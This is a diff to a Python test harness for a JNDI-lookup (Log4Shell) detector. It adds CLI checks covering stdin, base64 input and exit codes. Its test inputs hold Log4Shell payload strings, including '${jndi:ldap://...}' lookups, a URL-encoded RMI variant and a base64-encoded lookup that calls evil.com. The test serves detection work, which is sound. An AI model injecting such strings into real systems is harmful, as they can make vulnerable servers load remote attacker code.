@@ -14,6 +14,7 @@ The expected host is what the JVM would call: written down per case below, with 
 where it is not the obvious one. Corpus entries that are no JNDI lookup (Log4j's own error
 output, Commons Text's ${url:} / ${dns:}, CRS's PL4 "any ${") must give no hit.
 
+Also checks jndi-scan's own contract (stdin lines, --base64, exit codes 0/1/2).
 Prints a Markdown table and `N passed, N failed`. --write-docs rewrites the table in
 docs/detection.md between the payload-corpus markers. Exit 0 all passed, 1 any failed,
 77 when ../shared is absent.
@@ -255,6 +256,35 @@ def table(cases):
     return "\n".join(rows)
 
 
+CLI_CHECKS = 4
+
+
+def cli_checks(binary):
+    """The subcommand's contract: stdin lines, --base64, exit codes. Returns failure messages."""
+    fails = []
+
+    def run(args, stdin=""):
+        r = subprocess.run([binary, "jndi-scan"] + args, input=stdin, stdout=subprocess.PIPE,
+                           stderr=subprocess.PIPE, text=True)
+        return r.returncode, [json.loads(l) for l in r.stdout.splitlines()]
+
+    rc, hits = run([], "benign line\nUA: ${jndi:ldap://l2.example:1389/a}\r\n\n%24%7Bjndi:rmi://l4.example/x%7D\n")
+    got = [(h["input_line"], h["host"], h["port"], h["encodings"]) for h in hits]
+    if rc != 0 or got != [(2, "l2.example", 1389, []), (4, "l4.example", None, ["url"])]:
+        fails.append("stdin: rc %d, %s" % (rc, got))
+    rc, hits = run(["--base64", "dXNlcjoke2puZGk6bGRhcDovL2V2aWwuY29tL2F9", "Zm9v"])
+    got = [(h["input_line"], h["host"], h["raw"], h["encodings"]) for h in hits]
+    if rc != 0 or got != [(1, "evil.com", "${jndi:ldap://evil.com/a}", ["base64"])]:
+        fails.append("--base64: rc %d, %s" % (rc, got))
+    rc, hits = run(["no lookup here", "${env:HOME}"])
+    if rc != 1 or hits:
+        fails.append("no hit: rc %d, %d hits" % (rc, len(hits)))
+    rc, hits = run(["--bogus"])
+    if rc != 2:
+        fails.append("bad option: rc %d" % rc)
+    return fails
+
+
 def write_docs(text):
     with open(DOC, encoding="utf-8") as f:
         doc = f.read()
@@ -292,14 +322,18 @@ def main():
         judge(c)
     text = table(cases)
     print(text)
-    passed = sum(c.ok for c in cases)
-    failed = len(cases) - passed
+    cli_fails = cli_checks(a.binary)
+    case_passed = sum(c.ok for c in cases)
+    passed = case_passed + CLI_CHECKS - len(cli_fails)
+    failed = len(cases) - case_passed + len(cli_fails)
+    for f in cli_fails:
+        print("FAIL jndi-scan " + f)
     for c in cases:
         if not c.ok:
             print("FAIL %s %s: expected %s x%d, got %s" % (c.corpus, c.name, c.expect, c.count,
                                                           [(h["field"], h["host"]) for h in c.got]))
     if a.write_docs:
-        write_docs(text + "\n\n%d passed, %d failed." % (passed, failed))
+        write_docs(text + "\n\n%d cases passed, %d failed." % (case_passed, len(cases) - case_passed))
     print("%d passed, %d failed" % (passed, failed))
     return 0 if failed == 0 else 1
 
